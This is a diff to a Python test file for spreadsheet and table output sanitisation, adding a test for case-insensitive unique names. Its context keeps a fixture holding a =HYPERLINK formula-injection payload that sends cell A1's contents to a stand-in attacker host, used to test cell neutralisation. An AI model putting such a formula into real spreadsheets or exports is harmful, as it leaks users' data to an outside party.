@@ -16,6 +16,7 @@ from interp.output import (
     neutralise_cell,
     strip_controls,
     table_text,
+    unique_name,
 )
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -90,3 +91,10 @@ def test_table_text_strips_ansi_and_bidi_from_cells_and_names():
     text = table_text(frame)
     assert all(not CONTROL_CHARACTERS.search(line) for line in text.splitlines()) and len(text.splitlines()) == 3
     assert "0.1235" in text and "[31mRed[0m" in text and "abcevil" in text
+
+
+def test_unique_names_ignore_case():
+    taken: set[str] = set()
+    assert [unique_name(name, taken) for name in ("tokens-X", "tokens-x", "Tokens-x")] == [
+        "tokens-X", "tokens-x-2", "Tokens-x-3"]
+    assert taken == {"tokens-x", "tokens-x-2", "tokens-x-3"}
